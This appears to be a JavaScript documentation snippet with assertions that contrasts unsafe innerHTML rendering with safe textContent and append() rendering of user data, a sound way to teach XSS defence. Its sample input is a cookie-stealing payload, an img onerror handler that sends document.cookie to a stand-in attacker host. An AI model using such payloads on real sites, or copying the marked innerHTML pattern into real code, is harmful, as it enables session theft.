// Rendering user data: textContent shows it as text; innerHTML runs it as markup.
import assert from "node:assert/strict";

const userInput = '<img src="x" onerror="fetch(`https://evil.example.net/?c=${document.cookie}`)">';

// --8<-- [start:bad]
// The pattern to avoid: the "name" becomes an <img> element with a script in onerror.
const unsafe = document.createElement("p");
unsafe.innerHTML = `Hello, ${userInput}`;
assert.ok(unsafe.querySelector("img[onerror]"), "innerHTML created the attacker's element");
// --8<-- [end:bad]

// --8<-- [start:good]
const safe = document.createElement("p");
safe.textContent = `Hello, ${userInput}`;
assert.equal(safe.querySelector("img"), null); // no element, just characters
assert.equal(safe.textContent, `Hello, ${userInput}`);

// Mixing markup and data: build the elements, put the data in as text.
function renderComment({ author, body }) {
  const item = document.createElement("li");
  const name = document.createElement("strong");
  name.textContent = author;
  item.append(name, ": ", body); // append() inserts strings as text nodes
  return item;
}
const comment = renderComment({ author: "<b>Eve</b>", body: userInput });
assert.equal(comment.querySelectorAll("*").length, 1); // only our <strong>
assert.equal(comment.querySelector("strong").textContent, "<b>Eve</b>");
// --8<-- [end:good]
